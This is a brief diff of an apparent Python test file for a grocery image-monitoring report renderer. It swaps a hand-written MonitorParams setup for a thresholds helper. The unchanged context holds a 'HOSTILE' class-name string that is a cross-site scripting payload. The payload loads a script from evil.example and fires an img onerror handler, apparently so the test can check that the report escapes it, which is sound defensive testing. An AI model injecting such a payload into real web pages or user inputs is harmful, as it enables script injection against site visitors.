@@ -20,16 +20,9 @@ from grocery.monitoring.report import (
     choose_samples,
     render,
 )
-from grocery.params import MonitorParams
+from thresholds import thresholds
 
-PARAMS = MonitorParams(
-    significance=0.01,
-    min_confidence_shift=0.15,
-    min_class_shift=0.2,
-    max_unreadable=0.05,
-    min_batch=20,
-    sample_images=8,
-)
+PARAMS = thresholds(sample_images=8)
 HOSTILE = "\"><script src=https://evil.example/x.js></script><img src=x onerror=alert(1)> & 'é'"
 CLASSES = ["apple", HOSTILE, "pear"]
 VOID = {"meta", "img", "br", "line"}
